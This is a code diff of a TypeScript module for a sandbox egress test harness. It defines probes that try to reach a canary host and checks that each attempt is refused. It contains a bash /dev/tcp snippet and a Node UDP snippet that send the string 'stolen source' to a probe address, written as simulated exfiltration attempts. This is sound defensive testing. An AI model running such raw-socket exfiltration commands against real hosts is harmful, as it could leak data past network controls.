@@ -1,23 +1,27 @@
 /**
- * The vocabulary of the probes: what an attacker inside the sandbox tries, with which program, and what exactly has to come of it.
- * A probe that gets anything else has failed, also where that is another refusal: then somebody has to look.
+ * The vocabulary of the probes: what an attacker inside the sandbox tries, with which program, and the exact
+ * result that is right. A probe that gets anything else has failed, even if that is another refusal: a person
+ * has to look at it.
  */
 import type { Body, Program, Target } from './inside/plan.mts';
 
 export interface Probe {
   readonly id: string;
-  /** What is tried, as it stands in the table. */
+  /** The attempt, as the report prints it. */
   readonly attack: string;
   readonly program: Program;
-  /** Any of these, to the letter. */
+  /** The right results; any of these, to the letter. */
   readonly expected: readonly string[];
-  /** The request is allowed by design, and upstream may see it. */
+  /** The request is allowed by design, so its marker is expected upstream. */
   readonly reachesUpstream?: boolean;
-  /** Everything the program prints is searched for the secrets of this run; `expected` must contain `nothing secret`. */
+  /**
+   * Searches everything the program prints for the secrets of this run; `expected` must contain `nothing
+   * secret`.
+   */
   readonly searched?: boolean;
-  /** Default: the group's own. */
+  /** Probes of one lane run one after the other. Default: the lane of the group. */
   readonly lane?: string;
-  /** Default 15,000. */
+  /** Default 40,000. */
   readonly timeoutMs?: number;
 }
 
@@ -41,11 +45,10 @@ export interface CanaryPlace {
   readonly pid: number;
 }
 
-/** Where the attacker is and what is around: facts of one run. */
+/** The attacker's surroundings: facts of one run. */
 export interface Place {
-  /** In every request that must not arrive, so that it is found where it must not be. */
+  /** Part of every request that must not arrive, so that the logs upstream can be searched for it. */
   readonly marker: string;
-  readonly model: string;
   readonly architecture: 'x64' | 'arm64';
   /** The attacker's host: on the loopback interface of the machine outside. */
   readonly canary: CanaryPlace;
@@ -59,14 +62,8 @@ export interface Place {
   readonly otherSandbox: string;
 }
 
-export const repositoryUrl = 'https://github.com/acme/split-bill.git';
-export const refs = '/acme/split-bill.git/info/refs?service=git-upload-pack';
-
-/** A refusal of the egress decision: its status and its code. */
+/** The status and the code of the commonest denial. */
 export const notGranted = ['403 host.not-granted'] as const;
-/** A path that a URL parser would change: refused at the gateway where it would become another, and by the decision. */
-export const badPath = ['400 target_invalid', '400 url.not-plain', '403 github.path'] as const;
-
 export function curl(
   id: string,
   attack: string,
@@ -105,7 +102,7 @@ export function script(
 export const unreachable = ['ENETUNREACH'] as const;
 export const refusedConnection = ['ECONNREFUSED'] as const;
 
-/** Tries a connection by the shell's own means: no resolver, proxy setting or library is in the way. */
+/** Connects with the shell's own means, without a resolver, a proxy setting or a library. */
 export const bashConnect = `
 if error=$( { exec 3<>"/dev/tcp/$PROBE_ADDRESS/$PROBE_PORT" && printf 'stolen source' >&3; } 2>&1 ); then echo CONNECTED
 elif [[ $error == *'Network is unreachable'* ]]; then echo ENETUNREACH
@@ -125,7 +122,7 @@ const address = process.env.PROBE_ADDRESS;
 const socket = createSocket(address.includes(':') ? 'udp6' : 'udp4');
 socket.on('error', (error) => { console.log(error.code); process.exit(); });
 socket.send('stolen source', Number(process.env.PROBE_PORT), address, (error) => {
-  // A connected peer would tell of a closed port; a sent datagram is an escape, whoever gets it.
+  // A sent datagram is an escape, even if no host receives it.
   console.log(error === null ? 'SENT' : error.code);
   process.exit();
 });`;
